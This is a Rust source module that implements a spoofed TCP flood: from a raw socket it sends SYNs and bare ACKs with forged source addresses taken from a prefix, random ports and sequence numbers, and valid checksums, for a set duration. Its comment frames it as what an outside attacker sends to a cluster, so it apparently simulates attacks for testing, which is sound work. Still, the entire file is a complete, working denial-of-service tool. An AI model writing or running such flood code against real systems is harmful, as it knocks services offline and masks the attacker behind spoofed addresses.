//! A flood of spoofed TCP segments, as an attacker outside the cluster sends
//! them: SYNs and bare ACKs from random sources of a prefix, random ports,
//! sequence and acknowledgment numbers, with valid checksums (so a backend
//! answers the SYNs it gets). Sent from a raw IPv4 socket with the IP header
//! written here.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use ipnetwork::Ipv4Network;
use rand::Rng;

/// Length of the IPv4 and TCP headers, without options.
const HEADERS_LEN: usize = 40;
const TCP_SYN: u8 = 0x02;
const TCP_ACK: u8 = 0x10;

/// Sends spoofed segments to `target` for `duration`, alternating SYNs and
/// bare ACKs, from random addresses of `sources`. Returns how many left
/// (those refused for a full transmit queue are not counted).
pub fn flood(target: SocketAddrV4, sources: Ipv4Network, duration: Duration) -> io::Result<u64> {
    let socket = RawSocket::open()?;
    let mut rng = rand::rng();
    let mut sent = 0u64;
    let started = Instant::now();
    while started.elapsed() < duration {
        for _ in 0..256 {
            let host = rng.random_range(0..sources.size());
            let source = Ipv4Addr::from(u32::from(sources.network()) + host);
            let flags = if sent.is_multiple_of(2) {
                TCP_SYN
            } else {
                TCP_ACK
            };
            let segment = Segment {
                source: SocketAddrV4::new(source, rng.random_range(1024..=65535)),
                target,
                seq: rng.random(),
                ack: if flags == TCP_ACK { rng.random() } else { 0 },
                flags,
            };
            if socket.send(&segment.packet(), target)? {
                sent += 1;
            }
        }
    }
    Ok(sent)
}

/// One TCP segment without payload.
struct Segment {
    source: SocketAddrV4,
    target: SocketAddrV4,
    seq: u32,
    ack: u32,
    flags: u8,
}

impl Segment {
    /// The IPv4 packet; the kernel fills in the IP checksum and identification.
    fn packet(&self) -> [u8; HEADERS_LEN] {
        let mut p = [0u8; HEADERS_LEN];
        p[0] = 0x45;
        p[2..4].copy_from_slice(&(HEADERS_LEN as u16).to_be_bytes());
        p[8] = 64;
        p[9] = libc::IPPROTO_TCP as u8;
        p[12..16].copy_from_slice(&self.source.ip().octets());
        p[16..20].copy_from_slice(&self.target.ip().octets());
        let tcp = &mut p[20..];
        tcp[0..2].copy_from_slice(&self.source.port().to_be_bytes());
        tcp[2..4].copy_from_slice(&self.target.port().to_be_bytes());
        tcp[4..8].copy_from_slice(&self.seq.to_be_bytes());
        tcp[8..12].copy_from_slice(&self.ack.to_be_bytes());
        tcp[12] = 5 << 4;
        tcp[13] = self.flags;
        tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
        let checksum = self.checksum(tcp);
        tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
        p
    }

    /// The TCP checksum over the pseudo header and `tcp` (checksum field 0).
    fn checksum(&self, tcp: &[u8]) -> u16 {
        let mut sum: u32 = 0;
        let mut add = |bytes: &[u8]| {
            for pair in bytes.chunks(2) {
                sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
            }
        };
        add(&self.source.ip().octets());
        add(&self.target.ip().octets());
        add(&[0, libc::IPPROTO_TCP as u8]);
        add(&(tcp.len() as u16).to_be_bytes());
        add(tcp);
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        !(sum as u16)
    }
}

/// A raw IPv4 socket whose packets carry their own IP header.
struct RawSocket(libc::c_int);

impl RawSocket {
    fn open() -> io::Result<Self> {
        // SAFETY: plain integer arguments; the result is checked.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(Self(fd))
    }

    /// Sends `packet`; false when the transmit queue was full.
    fn send(&self, packet: &[u8], target: SocketAddrV4) -> io::Result<bool> {
        let address = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from(*target.ip()).to_be(),
            },
            sin_zero: [0; 8],
        };
        // SAFETY: the buffer and address are valid for the lengths given,
        // and the socket is open.
        let sent = unsafe {
            libc::sendto(
                self.0,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&address as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if sent < 0 {
            let err = io::Error::last_os_error();
            // A full transmit queue: the flood goes on.
            if err.raw_os_error() == Some(libc::ENOBUFS) {
                return Ok(false);
            }
            return Err(err);
        }
        Ok(true)
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: the descriptor is open and owned here.
        unsafe { libc::close(self.0) };
    }
}
